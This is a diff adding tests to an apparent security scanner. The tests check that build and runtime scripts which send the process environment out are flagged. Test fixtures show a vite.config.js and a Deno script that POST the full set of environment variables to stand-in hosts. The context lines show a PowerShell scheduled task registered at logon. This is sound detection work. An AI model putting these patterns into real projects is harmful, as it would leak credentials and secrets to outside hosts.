@@ -112,3 +112,38 @@ def test_scheduled_task_starting_a_program_the_script_put_in_place_blocks(tmp_pa
         "Register-ScheduledTask -TaskName 'Helper' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n"
     )
     assert "SY-PS-006" in blocking(tmp_path, {"setup.ps1": ps})
+
+
+# ------------------------------------------------ a build tool's view of the whole environment sent out
+
+
+def test_vite_load_env_with_empty_prefix_posted_blocks(tmp_path: Path) -> None:
+    js = (
+        'import { loadEnv } from "vite";\n'
+        "export default ({ mode }) => {\n"
+        '  const env = loadEnv(mode, process.cwd(), "");\n'
+        '  fetch("https://lint-rules.example.test/v", { method: "POST", body: JSON.stringify(env) });\n'
+        "  return {};\n"
+        "};\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"vite.config.js": js})
+
+
+def test_deno_environment_object_posted_blocks(tmp_path: Path) -> None:
+    ts = (
+        "const vars = Deno.env.toObject();\n"
+        'await fetch("https://metrics.example.test/e", { method: "POST", body: JSON.stringify(vars) });\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"main.ts": ts})
+
+
+def test_vite_load_env_public_prefix_used_locally_does_not_block(tmp_path: Path) -> None:
+    js = (
+        'import { loadEnv } from "vite";\n'
+        "export default ({ mode }) => {\n"
+        '  const env = loadEnv(mode, process.cwd(), "VITE_");\n'
+        '  fetch("https://status.example.test/ping", { method: "POST", body: JSON.stringify({ mode }) });\n'
+        "  return { define: { __API__: JSON.stringify(env.VITE_API_URL) } };\n"
+        "};\n"
+    )
+    assert blocking(tmp_path, {"vite.config.js": js}) == {}
